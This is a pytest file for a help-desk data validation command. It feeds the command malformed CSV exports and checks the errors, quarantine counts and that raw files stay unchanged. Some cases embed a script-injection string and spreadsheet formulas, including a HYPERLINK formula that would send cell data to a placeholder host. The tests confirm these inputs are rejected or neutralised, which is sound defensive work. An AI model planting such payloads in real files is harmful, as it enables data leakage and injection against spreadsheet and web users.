"""The bad-input suite, data half: one row per kind of bad input a help-desk export can
carry. Each case writes a tiny dataset (a generated sample with one file changed), runs
the gate as a user does (``cxassess validate --quarantine``) and checks the exit code, the
message's key words, that no traceback is shown, that rows read = rows used + rows
quarantined for every table, and that every raw file is byte-identical afterwards.
"""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest

from cxassess.cli import main
from cxassess.synth import SampleSpec, write_sample

CYCLE = "2026Q3"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small valid dataset: the generated sample, 120 tickets per cycle."""
    return write_sample(tmp_path_factory.mktemp("bad") / "base", SampleSpec(tickets_per_cycle=120))


# --------------------------------------------------------------------------- edit helpers
def _frame(ds: Path, table: str, cycle: str = CYCLE) -> pd.DataFrame:
    return pd.read_csv(ds / cycle / f"{table}.csv", dtype=str, keep_default_na=False)


def _save(ds: Path, table: str, df: pd.DataFrame, cycle: str = CYCLE, **options) -> None:
    df.to_csv(ds / cycle / f"{table}.csv", index=False, **options)


def _set(table: str, column: str, value: str, row: int = 3, cycle: str = CYCLE) -> Callable[[Path], None]:
    def edit(ds: Path) -> None:
        df = _frame(ds, table, cycle)
        df.loc[row, column] = value
        _save(ds, table, df, cycle)
    return edit


def _answered_csat(df: pd.DataFrame) -> int:
    return int(df.index[(df["kind"] == "csat") & (df["responded_at"] != "") & (df["score"] != "")][0])


def _score(value: str, comment: str | None = None) -> Callable[[Path], None]:
    def edit(ds: Path) -> None:
        df = _frame(ds, "surveys")
        i = _answered_csat(df)
        df.loc[i, "score"] = value
        if comment is not None:
            df.loc[i, "comment"] = comment
        _save(ds, "surveys", df)
    return edit


def _delete(table: str) -> Callable[[Path], None]:
    return lambda ds: (ds / CYCLE / f"{table}.csv").unlink()


def _named_file_missing(ds: Path) -> None:
    text = (ds / "review.yml").read_text("utf-8")
    (ds / "review.yml").write_text(text + "\nfiles: {surveys: survey_export.csv}\n", "utf-8")


def _empty(ds: Path) -> None:
    (ds / CYCLE / "surveys.csv").write_bytes(b"")


def _header_only(ds: Path) -> None:
    path = ds / CYCLE / "tickets.csv"
    path.write_text(path.read_text("utf-8").splitlines()[0] + "\n", "utf-8")


def _header_only_surveys(ds: Path) -> None:
    """No survey answered or sent this cycle: the export writes the header alone."""
    path = ds / CYCLE / "surveys.csv"
    path.write_text(path.read_text("utf-8").splitlines()[0] + "\n", "utf-8")


def _rename(table: str, old: str, new: str) -> Callable[[Path], None]:
    return lambda ds: _save(ds, table, _frame(ds, table).rename(columns={old: new}))


def _drop(table: str, column: str) -> Callable[[Path], None]:
    return lambda ds: _save(ds, table, _frame(ds, table).drop(columns=column))


def _duplicate_ticket(ds: Path) -> None:
    df = _frame(ds, "tickets")
    _save(ds, "tickets", pd.concat([df, df.iloc[[5]]], ignore_index=True))


def _mixed_zones(ds: Path) -> None:
    df = _frame(ds, "tickets")
    stamp = pd.Timestamp(df.loc[3, "created_at"]).tz_convert("UTC")
    df.loc[3, "created_at"] = stamp.strftime("%Y-%m-%dT%H:%M:%SZ")  # the same instant, in UTC
    df.loc[4, "created_at"] = pd.Timestamp(df.loc[4, "created_at"]).tz_convert("Asia/Tokyo").isoformat()
    _save(ds, "tickets", df)


def _reversed(ds: Path) -> None:
    df = _frame(ds, "tickets")
    i = int(df.index[df["resolved_at"] != ""][0])
    df.loc[i, "resolved_at"] = (pd.Timestamp(df.loc[i, "created_at"]) - pd.Timedelta(hours=2)).isoformat()
    _save(ds, "tickets", df)


def _reencode(table: str, encoding: str, text: str) -> Callable[[Path], None]:
    def edit(ds: Path) -> None:
        df = _frame(ds, table)
        df.loc[df["comment"] != "", "comment"] = text  # every comment in the code page's script
        path = ds / CYCLE / f"{table}.csv"
        path.write_bytes(df.to_csv(index=False).encode(encoding))
    return edit


def _semicolons_decimal_commas(ds: Path) -> None:
    df = _frame(ds, "tickets")
    df["handle_minutes"] = df["handle_minutes"].str.replace(".", ",", regex=False)
    _save(ds, "tickets", df, sep=";")


def _dangling(ds: Path) -> None:
    df = _frame(ds, "surveys")
    df.loc[2, "ticket_id"] = "T9999999"
    _save(ds, "surveys", df)


def _ragged(ds: Path) -> None:
    path = ds / CYCLE / "audits.csv"
    lines = path.read_text("utf-8").splitlines(keepends=True)
    lines[3] = lines[3].rstrip("\n") + ",one too many\n"
    path.write_text("".join(lines), "utf-8")


def _no_cycle_folder(ds: Path) -> None:
    shutil.rmtree(ds / CYCLE)


# --------------------------------------------------------------------------- the table
CASE = "edit, cycle, code, words, quarantined"
CASES = [
    pytest.param(_named_file_missing, CYCLE, 1, ["surveys", "file not found"], {}, id="missing-file"),
    pytest.param(_delete("surveys"), CYCLE, 0, ["passed"], {}, id="table-absent"),
    pytest.param(_empty, CYCLE, 1, ["surveys", "the file is empty"], {}, id="empty-file"),
    pytest.param(_header_only, CYCLE, 1, ["tickets table has no rows"], {}, id="header-only"),
    pytest.param(_header_only_surveys, CYCLE, 1,
                 ["surveys table has no rows", "a cycle that has none leaves the file out"], {},
                 id="header-only-optional-table"),
    pytest.param(_rename("tickets", "created_at", "Created"), CYCLE, 1,
                 ["required column(s) of the tickets table are missing", "created_at"], {}, id="renamed-column"),
    pytest.param(_drop("events", "timestamp"), CYCLE, 1,
                 ["required column(s) of the events table are missing", "timestamp"], {}, id="missing-column"),
    pytest.param(_duplicate_ticket, CYCLE, 0, ["ticket_id appears more than once"], {"tickets": 1}, id="duplicate-ids"),
    pytest.param(_set("tickets", "created_at", "yesterday"), CYCLE, 0,
                 ["created_at", "cannot be read as a full date and time", "yesterday"], {"tickets": 1},
                 id="unparseable-date"),
    pytest.param(_set("tickets", "created_at", "07/2026"), CYCLE, 0,
                 ["cannot be read as a full date and time", "07/2026"], {"tickets": 1}, id="partial-date-month"),
    pytest.param(_set("surveys", "sent_at", "2026-07"), CYCLE, 0,
                 ["sent_at", "2026-07"], {"surveys": 1}, id="partial-date-iso"),
    pytest.param(_mixed_zones, CYCLE, 0, ["every check holds"], {}, id="mixed-zones"),
    pytest.param(_set("audits", "audited_at", "2026-03-29 02:30:00", cycle="2026Q1"), "2026Q1", 0,
                 ["every check holds"], {}, id="dst-skipped-spring-hour"),
    pytest.param(_set("audits", "audited_at", "2025-10-26 02:30:00", cycle="2025Q4"), "2025Q4", 0,
                 ["every check holds"], {}, id="dst-repeated-autumn-hour"),
    pytest.param(_set("tickets", "created_at", "2027-01-15T10:00:00+01:00"), CYCLE, 0,
                 ["created_at lies outside the cycle window"], {"tickets": 1}, id="out-of-window"),
    pytest.param(_reversed, CYCLE, 0, ["resolved_at"], {"tickets": 1}, id="resolved-before-created"),
    pytest.param(_score("6"), CYCLE, 0, ["above the highest point of its scale"], {"surveys": 1}, id="out-of-scale"),
    pytest.param(_score(""), CYCLE, 0, ["answered survey", "no readable score"], {"surveys": 1}, id="blank-score"),
    pytest.param(_score("NaN"), CYCLE, 0, ["answered survey", "no readable score"], {"surveys": 1}, id="nan-score"),
    pytest.param(_score("five"), CYCLE, 0, ["score", "cannot be read as a number", "five"], {"surveys": 1},
                 id="unreadable-score"),
    pytest.param(_reencode("surveys", "cp1252", "Schnelle Hilfe, vielen Dank! Grüße aus Köln"), CYCLE, 0,
                 ["every check holds"], {}, id="cp1252"),
    pytest.param(_reencode("surveys", "cp932", "迅速な対応ありがとうございました。"), CYCLE, 0,
                 ["every check holds"], {}, id="cp932"),
    pytest.param(_reencode("surveys", "utf-8-sig", "Quick, thank you"), CYCLE, 0,
                 ["every check holds"], {}, id="utf8-bom"),
    pytest.param(_semicolons_decimal_commas, CYCLE, 0, ["every check holds"], {}, id="semicolons-decimal-commas"),
    pytest.param(_set("tickets", "channel", "fax"), CYCLE, 0,
                 ["channel is not one of the values listed", "fax"], {"tickets": 1}, id="unknown-value"),
    pytest.param(_dangling, CYCLE, 0, ["refers to a ticket that is not in the tickets table", "T9999999"],
                 {"surveys": 1}, id="dangling-reference"),
    pytest.param(_set("tickets", "team", "<script>alert(1)</script>"), CYCLE, 0,
                 ["team is not one of the values", "<script>alert(1)</script>"], {"tickets": 1},
                 id="injection-string"),
    pytest.param(_score("9", comment='=HYPERLINK("http://x"&A1,"x")'), CYCLE, 0,
                 ["above the highest point"], {"surveys": 1}, id="formula-cell"),
    pytest.param(_ragged, CYCLE, 1, ["audits", "not a well-formed CSV"], {}, id="ragged-row"),
    pytest.param(_no_cycle_folder, CYCLE, 1, ["cycle folder not found", CYCLE], None, id="no-cycle-folder"),
]


def _digests(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.mark.parametrize(CASE, CASES)
def test_bad_input(base, tmp_path, capsys, edit, cycle, code, words, quarantined):
    dataset = tmp_path / "desk"
    shutil.copytree(base, dataset)
    edit(dataset)
    before = _digests(dataset)
    out = tmp_path / "gate"

    exit_code = main(["validate", "--dataset", str(dataset), "--cycle", cycle, "--quarantine", str(out)])

    captured = capsys.readouterr()
    said = captured.out + captured.err
    assert exit_code == code, said
    assert "Traceback" not in said
    for word in words:
        assert word in said, (word, said)
    assert _digests(dataset) == before  # raw files are only ever read
    if quarantined is None:  # the run stopped before the gate: nothing written
        assert not (out / "quality.json").exists()
        return
    record = json.loads((out / "quality.json").read_text("utf-8"))
    for t in record["tables"]:
        assert t["rows_read"] == t["rows_used"] + t["rows_quarantined"], t
        assert t["rows_quarantined"] == quarantined.get(t["table"], 0), t
    for table, n in quarantined.items():
        held = pd.read_csv(out / "quarantine" / f"{table}.csv", dtype=str, keep_default_na=False,
                           encoding="utf-8-sig")
        assert len(held) == n


def test_formula_cell_is_neutralised_in_the_quarantine(base, tmp_path):
    dataset = tmp_path / "desk"
    shutil.copytree(base, dataset)
    _score("9", comment="@SUM(1,1)")(dataset)
    assert main(["validate", "--dataset", str(dataset), "--cycle", CYCLE, "--quarantine", str(tmp_path / "q")]) == 0
    text = (tmp_path / "q" / "quarantine" / "surveys.csv").read_text("utf-8-sig")
    assert "\"'@SUM(1,1)\"" in text and ",@SUM" not in text and "\"@SUM" not in text


def test_the_table_has_every_kind_of_bad_input():
    assert len(CASES) >= 22
    assert len({c.id for c in CASES}) == len(CASES)
